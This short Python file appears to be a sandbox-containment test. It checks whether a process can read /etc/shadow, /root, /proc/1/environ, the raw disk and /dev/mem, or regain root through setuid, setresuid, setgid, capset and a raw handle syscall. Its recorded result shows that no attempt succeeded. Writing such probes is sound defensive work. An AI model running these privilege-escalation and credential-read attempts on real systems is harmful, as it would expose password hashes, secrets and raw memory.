# attack: Looks whether it may read what nobody but root may, and takes back rights that it had.
# verdicts: test_attack=failed
# manages: \[\]
import ctypes
import os
import struct


def attack(n):
    managed = []
    libc = ctypes.CDLL(None, use_errno=True)
    header, wanted = struct.pack("=Ii", 0x20080522, 0), struct.pack("=6I", *([0xFFFFFFFF] * 2), 0, 0x1FF, 0x1FF, 0)
    tries = {
        "shadow": lambda: open("/etc/shadow", "rb").read(),
        "key": lambda: os.listdir("/root"),
        "log": lambda: os.listdir("/var/log"),
        "first process": lambda: open("/proc/1/environ", "rb").read() if os.getpid() != 1 else 1 / 0,
        "disk": lambda: os.open("/dev/vda", os.O_RDONLY),
        "memory": lambda: os.open("/dev/mem", os.O_RDONLY),
        "root": lambda: os.setuid(0),
        "saved": lambda: os.setresuid(-1, 0, -1),
        "group": lambda: os.setgid(0),
        "rights": lambda: 1 / (libc.capset(header, wanted) == 0),
        "handle": lambda: 1 / (libc.syscall(304, -100, bytes(128), 0) >= 0),
    }
    for name, attempt in tries.items():
        try:
            attempt()
            managed.append(name)
        except (OSError, ZeroDivisionError):
            pass
    return managed
